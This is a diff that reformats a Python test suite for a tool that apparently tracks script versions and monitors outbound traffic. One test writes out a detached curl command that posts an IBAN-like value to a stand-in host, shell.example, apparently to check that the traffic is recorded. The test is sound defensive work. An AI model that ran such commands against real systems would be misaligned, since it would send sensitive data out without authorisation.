@@ -18,7 +18,9 @@ def test_a_changed_script_is_a_new_version_with_a_diff(serving: Any) -> None:
     _run(serving, script)
 
     serving.wait_for(lambda: serving("scripts", str(script)).stdout.count("report.py") == 2)
-    done = serving.wait_for(lambda: (d := serving("scripts", "--diff", str(script))).returncode == 0 and d)
+    done = serving.wait_for(
+        lambda: (d := serving("scripts", "--diff", str(script))).returncode == 0 and d
+    )
     assert "-# first version" in done.stdout
     assert "+# second version" in done.stdout
     assert "PASSWORD" in done.stdout
@@ -37,7 +39,15 @@ def test_what_is_not_python_is_volume_only(serving: Any) -> None:
 
     if shutil.which("curl") is None or shutil.which("setsid") is None:
         pytest.skip("curl is not installed")
-    command = ["setsid", "-f", "curl", "-s", "-d", "iban DE90871318609139099603", "https://shell.example/secret/path"]
+    command = [
+        "setsid",
+        "-f",
+        "curl",
+        "-s",
+        "-d",
+        "iban DE90871318609139099603",
+        "https://shell.example/secret/path",
+    ]
     subprocess.run(command, env=serving.behind(), timeout=60, check=True)
 
     def mine() -> list[dict[str, Any]]:
@@ -52,4 +62,10 @@ def test_what_is_not_python_is_volume_only(serving: Any) -> None:
 
 
 def _run(outgate: Any, script: Any) -> None:
-    subprocess.run([sys.executable, str(script)], env=outgate.behind(), timeout=60, check=True, capture_output=True)
+    subprocess.run(
+        [sys.executable, str(script)],
+        env=outgate.behind(),
+        timeout=60,
+        check=True,
+        capture_output=True,
+    )
